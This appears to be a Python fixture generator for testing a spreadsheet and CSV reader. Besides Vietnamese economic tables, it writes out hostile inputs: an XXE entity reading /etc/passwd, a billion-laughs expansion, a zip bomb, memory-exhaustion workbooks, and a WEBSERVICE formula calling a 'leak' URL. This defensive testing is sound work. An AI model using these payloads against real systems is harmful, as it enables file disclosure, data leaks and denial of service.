MANY = 2_100_000  # just over the reader's 2,000,000 cells


def _sheet(cells: str, prefix: str = "", rows=None) -> str:
    """A sheet declaring a small dimension: the header row, then one row of `cells`
    (raw XML); `prefix` names the spreadsheetml namespace with another prefix."""
    p = f"{prefix}:" if prefix else ""
    ns = f'xmlns:{prefix}="{MAIN_NS}"' if prefix else NS
    text = lambda v: f'<{p}c t="inlineStr"><{p}is><{p}t>{v}</{p}t></{p}is></{p}c>'
    body = "".join(f"<{p}row>{''.join(text(v) if isinstance(v, str) else f'<{p}c><{p}v>{v}</{p}v></{p}c>' for v in row)}</{p}row>"
                   for row in (rows or LONG_ROWS[:1]))
    return (f'<?xml version="1.0"?><{p}worksheet {ns}><{p}dimension ref="A1:C4"/><{p}sheetData>'
            f"{body}{f'<{p}row>{cells}</{p}row>' if cells else ''}</{p}sheetData></{p}worksheet>")


def _padded(data: bytes) -> bytes:
    """`data` with random bytes added, so that its compression ratio stays under 100."""
    unpacked = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist())
    return rezip(data, {}, {"xl/media/noise.bin": random.Random(5).randbytes(unpacked // 90)})


def sheet_elsewhere(sheet: str, part: str = "xl/data/tab.xml") -> bytes:
    """A workbook whose only sheet lives at `part`, outside xl/worksheets/, reached
    through the workbook's relationships and the content types."""
    moved = lambda xml: xml.replace("worksheets/sheet1.xml", part[3:])
    entries = [(n, c) for n, c in _entries(workbook(LONG_ROWS)) if n != "xl/worksheets/sheet1.xml"]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in entries:
            if name in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                content = moved(content.decode()).encode()
            target.writestr(name, content)
        target.writestr(part, sheet)
    return out.getvalue()


def memory_workbooks() -> dict[str, bytes]:
    """Small workbooks whose parsing would take memory in proportion to an element
    count (item 1): cells in a sheet the workbook reaches outside
    xl/worksheets/, under another namespace prefix or in UTF-16; shared strings; styles."""
    base = workbook(LONG_ROWS)
    sst = (f'<?xml version="1.0"?><sst {NS}>' + "<si><t/></si>" * MANY + "</sst>")
    strings_type = ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
                    'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    utf16 = _sheet("<c/>" * MANY).replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>')
    return {
        "sheet_outside_worksheets.xlsx": _padded(sheet_elsewhere(_sheet("<c/>" * MANY))),
        "sheet_other_prefix.xlsx": _padded(rezip(base, {
            "xl/worksheets/sheet1.xml": lambda _: _sheet("<x-y:c/>" * MANY, "x-y")})),
        "sheet_unicode_prefix.xlsx": _padded(sheet_elsewhere(
            _sheet("<bảng:c/>" * MANY, "bảng"), "xl/số liệu/bảng1.xml")),
        "sheet_utf16.xlsx": _padded(_write_zip(
            [(n, _deflate(c), zlib.crc32(c), len(c)) for n, c in _entries(base)
             if n != "xl/worksheets/sheet1.xml"]
            + [("xl/worksheets/sheet1.xml", _deflate(utf16.encode("utf-16")),
                zlib.crc32(utf16.encode("utf-16")), len(utf16.encode("utf-16")))])),
        "shared_strings_bloated.xlsx": _padded(rezip(base, {
            "[Content_Types].xml": _insert("</Types>", strings_type)},
            {"xl/sharedStrings.xml": sst})),
        "styles_bloated.xlsx": _padded(rezip(base, {"xl/styles.xml": lambda xml: re.sub(
            r"<cellXfs[^>]*>", lambda m: m.group(0) + "<xf/>" * 300_000, xml, count=1)})),
        # the same places, holding an ordinary table: read
        "sheet_elsewhere_prefixed.xlsx": sheet_elsewhere(
            _sheet("", "x", LONG_ROWS), "xl/bảng/dữ liệu.xml"),
    }


def workbooks() -> dict[str, bytes]:
    title = ["BÁO CÁO MỘT SỐ CHỈ TIÊU KINH TẾ - XÃ HỘI CHỦ YẾU", None, None, None, None]
    good = workbook(LONG_ROWS)
    return {
        "merged_header.xlsx": workbook(
            [title, ["(Kèm theo Báo cáo số 12/BC-UBND)", None, None, None, None], [None] * 5,
             ["Chỉ tiêu", "Đơn vị tính", 2019, 2020, 2021],
             ["Kim ngạch xuất khẩu", "triệu USD", 1000, 1050, 1136],
             ["Kim ngạch nhập khẩu", "triệu USD", 400, 420, 450],
             ["Tổng mức bán lẻ", "tỷ đồng", 81200, 83500, 85873]],
            merged=["A1:E1", "A2:E2"]),
        "formulas_cached.xlsx": workbook(
            LONG_ROWS + [["exports", 2022, None], ["imports", 2019, 40], ["imports", 2020, None],
                         ["imports", 2021, None]],
            formulas={"C3": ("C2*1.1", 110, "n"), "C4": ("C3*1.1", 121, "n"),
                      "C5": ('WEBSERVICE("http://127.0.0.1:9/leak")', 133, "n"),
                      "C7": ("C6+2", 42, "n"),
                      "C8": ("SUM(C6:C7)", 45, "n")}),  # evaluated, it would be 82
        "error_cells.xlsx": workbook(
            LONG_ROWS + [["exports", 2022, "#REF!"], ["exports", 2023, None]],
            formulas={"C6": ("1/0", "#DIV/0!", "e")}),
        "dates_as_years.xlsx": workbook(
            [["indicator", "year", "value"]]
            + [["exports", datetime(2017 + i, 1, 1), 100 + 10 * i] for i in range(3)]),
        "years_float.xlsx": rezip(workbook(  # years stored as 2019.0, and as text
            [["indicator", "year", "value"], ["exports", 2019, 100], ["exports", "2020", 110],
             ["exports", 2021, 121]]), {"xl/worksheets/sheet1.xml": lambda xml: re.sub(
                 r"<v>(20\d\d)</v>", r"<v>\1.0</v>", xml)}),
        "external_links.xlsx": external_links_workbook(),
        "macro.xlsm": macro_workbook(),
        "truncated.xlsx": good[: len(good) * 2 // 3],
        "zip_not_workbook.xlsx": _write_zip([("readme.txt", _deflate(b"hello"), zlib.crc32(b"hello"), 5)]),
        "xxe.xlsx": _sheet_with_doctype(
            '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        "billion_laughs.xlsx": _sheet_with_doctype(
            "<!DOCTYPE worksheet [<!ENTITY a \"aaaaaaaaaa\">"
            + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'
                      for i in range(9)) + "]>", "&j;"),
        "zip_bomb.xlsx": zip_bomb(),
        "gso_retail.xlsx": workbook([[GSO_RETAIL_TITLE], [], ["Cities, provincies", 2013, 2014,
                                                              2015, "Prel. 2016"]]
                                    + [[name] + [".." if c == ".." else float(c)
                                                 for c in late.split(";")]
                                       for name, _, late in GSO_RETAIL]),
        **planners_workbooks(),
        **memory_workbooks(),
    }


def _epoch_1904(data: bytes) -> bytes:
    """The workbook with the 1904 date system (Excel for Mac): serial numbers unchanged."""
    return rezip(data, {"xl/workbook.xml": lambda xml: re.sub(
        r"<workbookPr([^>]*)/>", r'<workbookPr\1 date1904="1"/>', xml, count=1)
        if "<workbookPr" in xml else xml.replace("<bookViews>", '<workbookPr date1904="1"/><bookViews>')})


def planners_workbooks() -> dict[str, bytes]:
    """Workbooks as planners keep them: several sheets, percent formats, merged headers."""
    stale = [["indicator", "year", "value"], ["exports", 2015, 50], ["exports", 2016, 55]]
    current = LONG_ROWS + [["exports", 2022, 133]]
    iip = [["indicator", "year", "value"]] + [
        ["industrial_production_index", 2017 + i, v] for i, v in
        enumerate([0.079, 0.082, 0.091, 0.065, 0.085])]
    iip_index = [["Chỉ tiêu", "Năm", "Giá trị"]] + [
        [IIP_NAME, 2017 + i, v] for i, v in enumerate([1.079, 1.082, 1.091, 1.065, 1.148])]
    percent = {("IIP", f"C{r}"): "0.0%" for r in range(2, 7)}
    merged = workbook(
        [["Chỉ tiêu", "Đơn vị tính", "Năm", None, None, None, None],
         [None, None, 2017, 2018, 2019, 2020, "Sơ bộ 2021"],
         ["Kim ngạch xuất khẩu", "triệu USD", 700, 760, 820, 900, 1136],
         ["Tổng mức bán lẻ", "tỷ đồng", 70100, 76000, 81200, 83500, 85873]],
        merged=["A1:A2", "B1:B2", "C1:G1"])
    return {
        "hidden_first_sheet.xlsx": book({"Cũ": stale, "Số liệu": current}, active=1,
                                         hidden=("Cũ",)),
        "hidden_active_sheet.xlsx": book({"Cũ": stale, "Số liệu": current}, active=0,
                                          hidden=("Cũ",)),
        "notes_first_sheet.xlsx": book({"Hướng dẫn": [["Bảng số liệu ở trang sau"],
                                                      ["Người lập: phòng Kế hoạch"]],
                                        "Số liệu": current}),
        "active_second_sheet.xlsx": book({"2020": stale, "2022": current}, active=1),
        "numbers_with_display_format.xlsx": book(
            {"Data": [["indicator", "year", "value"]] + [
                ["exports", 2017 + i, v] for i, v in enumerate([0.735, 0.765, 0.801, 0.95, 1.136])]},
            formats={("Data", f"C{r}"): "#,##0.000" for r in range(2, 7)}),
        "percent_cells.xlsx": book({"IIP": iip}, formats=percent),
        "percent_index_cells.xlsx": book({"IIP": iip_index}, formats=percent),
        "retail_percent_format.xlsx": book(
            {"Số liệu": [["Chỉ tiêu", "Năm", "Giá trị"]] + [
                ["retail_sales", 2017 + i, v] for i, v in enumerate([70100, 76000, 0.085, 83500])]},
            formats={("Số liệu", "C4"): "0.0%"}),
        "iip_index_last_percent_cells.xlsx": book(
            {"IIP": [["indicator", "year", "value"]] + [
                ["industrial_production_index", 2015 + i, v]
                for i, v in enumerate([0.071, 0.065, 0.082, 0.09, 0.074, 1.086, 1.182])]},
            formats={("IIP", f"C{r}"): "0.0%" for r in range(2, 9)}),
        "two_row_merged_header.xlsx": merged,
        "formula_no_value.xlsx": workbook(
            LONG_ROWS + [["exports", 2022, "=C4*1.1"], ["exports", 2023, "=C5*1.1"]]),
        "date_formatted_years.xlsx": book(
            {"Data": current}, formats={("Data", f"B{r}"): "dd/mm/yyyy" for r in range(2, 6)}),
        "date_formatted_year_headers_1904.xlsx": _epoch_1904(book(
            {"Data": [["Chỉ tiêu", "Đơn vị tính", 2019, 2020, 2021],
                      ["Kim ngạch xuất khẩu", "triệu USD", 1000, 1050, 1136]]},
            formats={("Data", f"{c}1"): "mm/dd/yy" for c in "CDE"})),
        "declared_huge.xlsx": rezip(workbook(LONG_ROWS), {
            "xl/worksheets/sheet1.xml": lambda xml: re.sub(
                r'<dimension ref="[^"]*"', '<dimension ref="A1:Z1000000"', xml)}),
    }


# --- big files, made at test time ---------------------------------------------------


def hundred_thousand_rows() -> bytes:
    """100,000 rows: 500 indicators x 200 years, each growing 1% a year."""
    rows = [f"ind_{i:03d},{1901 + k},{100 * 1.01 ** k + i:.2f}" for i in range(500) for k in range(200)]
    return lines("indicator,year,value", *rows)


def too_many_rows(n: int = 250_000) -> bytes:
    return lines("indicator,year,value", *(f"s{i // 200},{1901 + i % 200},{1 + i % 7}" for i in range(n)))


def fifty_mb() -> bytes:
    row = b"exports,2020,1234567.25,million USD,current,final,https://example.org/source,note\n"
    return b"indicator,year,value,unit,price_basis,status,source,note\n" + row * (50 * 2**20 // len(row) + 1)


def unclosed_quote_big() -> bytes:
    """An unclosed quote swallows the rest of the file into one 300 kB cell."""
    rest = "".join(f"exports,{1900 + i % 200},{i}\n" for i in range(20_000))
    return lines("indicator,year,value", "exports,2016,90", '"exports,2017,100') + rest.encode()


def one_cell_19mb() -> bytes:
    """A header, then one quoted cell of 19 MB (under the 20 MB file limit)."""
    return lines("indicator,year,value", 'exports,2020,"' + "9" * (19 * 2**20) + '"')


BIG = {"hundred_thousand_rows.csv": hundred_thousand_rows, "too_many_rows.csv": too_many_rows,
       "fifty_mb.csv": fifty_mb, "unclosed_quote_big.csv": unclosed_quote_big,
       "one_cell_19mb.csv": one_cell_19mb}


def generate(folder: Path) -> dict[str, Path]:
    """Write the workbooks and big files into `folder`; their paths by name."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {**workbooks(), **{name: make() for name, make in BIG.items()}}
    for name, data in made.items():
        (folder / name).write_bytes(data)
    return {name: folder / name for name in made}


def write_small(folder: Path = HERE) -> None:
    for name, data in SMALL.items():
        (folder / name).write_bytes(data)


if __name__ == "__main__":
    write_small(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
